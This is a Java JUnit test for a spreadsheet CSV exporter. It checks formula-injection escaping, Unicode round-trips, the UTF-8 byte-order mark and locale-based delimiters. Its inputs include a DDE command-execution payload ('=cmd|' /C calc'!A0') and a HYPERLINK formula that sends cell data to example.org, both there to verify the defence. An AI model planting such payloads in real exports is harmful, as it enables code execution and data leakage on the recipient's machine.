package org.mesaconsular.shared.ui.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.mesaconsular.testing.NaughtyStrings;

class ExportSheetTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\thidden",
                " =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\u202e=1+1",
                "＝1+1",
                "＠SUM(A1)",
                "=HYPERLINK(\"http://example.org?x=\"&A1)",
                "=cmd|' /C calc'!A0"
            })
    void what_could_begin_a_formula_is_a_text(String typed) throws IOException {
        assertThat(cells(typed)).containsExactly("'" + typed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Ecuador", "a=b", "1-2", "'quoted'", "", "señora@example.org", "5 < 7", "\"=1\"", "·"})
    void what_could_not_stays_as_it_is(String typed) throws IOException {
        assertThat(cells(typed)).containsExactly(typed);
    }

    /** Each beside another, so that a text which breaks out of its cell is noticed. */
    @Test
    void every_naughty_string_comes_back_in_its_own_cell() throws IOException {
        for (var naughty : NaughtyStrings.all()) {
            var read = cells(naughty, "beside");

            assertThat(read).as(naughty).hasSize(2).last().isEqualTo("beside");
            assertThat(read.getFirst()).isIn(naughty, "'" + naughty);
            assertThat(read.getFirst())
                    .doesNotStartWith("=")
                    .doesNotStartWith("+")
                    .doesNotStartWith("@");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "القنصلية العامة لجمهورية مصر العربية",
                "שגרירות \"ישראל\"; לוס אנג'לס",
                "𠜎𠜱 領事館 😀",
                "one\r\ntwo\nthree",
                "a;b,c\td",
                "Île · Ñandú · São"
            })
    void scripts_signs_and_lines_come_back_as_they_were(String typed) throws IOException {
        assertThat(cells(typed, "beside")).containsExactly(typed, "beside");
    }

    @Test
    void the_file_says_that_it_is_utf_8() throws IOException {
        assertThat(file(Locale.ENGLISH, "ñ"))
                .startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF)
                .contains((byte) 0xC3, (byte) 0xB1);
    }

    /** As spreadsheets of that country expect it. */
    @ParameterizedTest
    @CsvSource({"en,'',','", "en,EC,','", "es,EC,;", "es,MX,','", "es,'',;", "pt,BR,;", "fr,FR,;"})
    void cells_are_parted_as_in_the_reader_s_country(String language, String state, char delimiter) {
        assertThat(ExportSheet.delimiter(Locale.of(language, state))).isEqualTo(delimiter);
    }

    private static List<String> cells(String... texts) throws IOException {
        var file = new String(file(Locale.of("es", "EC"), texts), StandardCharsets.UTF_8);
        var format = CSVFormat.RFC4180.builder().setDelimiter(';').get();
        try (var parser = format.parse(new StringReader(file.substring(1)))) {
            var records = parser.getRecords();
            assertThat(records).hasSize(1);
            return records.getFirst().toList();
        }
    }

    private static byte[] file(Locale region, String... texts) throws IOException {
        var bytes = new ByteArrayOutputStream();
        var sheet = new ExportSheet(bytes, region);
        sheet.line(texts);
        sheet.flush();
        return bytes.toByteArray();
    }
}
